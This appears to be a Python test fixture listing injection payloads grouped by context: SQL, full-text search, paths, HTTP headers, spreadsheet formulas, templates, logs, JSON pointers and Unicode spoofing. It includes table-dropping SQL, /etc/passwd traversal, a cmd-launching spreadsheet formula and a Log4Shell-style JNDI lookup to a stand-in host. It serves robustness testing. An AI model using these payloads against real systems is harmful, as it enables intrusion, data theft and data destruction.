"""Texts that try to become something else where they are put: a query, a path, a header, a line."""

CANARY = "1787569"
"""What a template makes of 1337*1337."""

TEXTS = {
    "sql": [
        "' or '1'='1", "1; drop table sample; --", "' union select password from person --",
        "1' and pg_sleep(5) --", "\\' or 1=1 --", "'||(select hash from session)||'", ":name",
        "%(name)s", "$$; drop table sample; $$", "'; attach database 'x.db' as x; --",
    ],
    "words": [
        'sample_text match "a"', "a NEAR/2 b", 'a" OR "b', "a & !b | (c <-> d)", "'a':*AB", "((((",
        "{text raw}: a",
    ],
    "like": ["%", "_%_", "a\\%", "*?[a-z]"],
    "pattern": ["(a+)+$", "(?P<a>.)(?P=a)", "[", "a{999999}"],
    "path": [
        "../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "file:///etc/passwd", "a\0.jsonl",
        "x" * 300,
    ],
    "header": [
        "a\r\nSet-Cookie: stolen=1", "a\nX-Injected: 1", 'a"; filename="b.html',
        "a%0d%0aX-Injected: 1",
    ],
    "sheet": ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test")'],
    "template": [
        "{{1337*1337}}", "{% include '/etc/passwd' %}", "${1337*1337}", "{0.__class__}",
        "<%= 1337*1337 %>",
    ],
    "log": ['a\n{"event": "login"}', "\x1b[2J\x1b[31m", "%s%n%x", "${jndi:ldap://evil.test/a}"],
    "pointer": ["/messages/0/~1content", "$..*", "__proto__", "a[0].b"],
    "unicode": [
        "\u202egpj.exe", "\ufeffadmin", "\uff41\uff44\uff4d\uff49\uff4e", "adm\u0456n", "\ud7ff",
        "\U0010ffff", "\u0130\ufb03", "a\u0301\u0301", "\u2028\x85",
    ],
}  # fmt: skip
ALL = [text for texts in TEXTS.values() for text in texts]
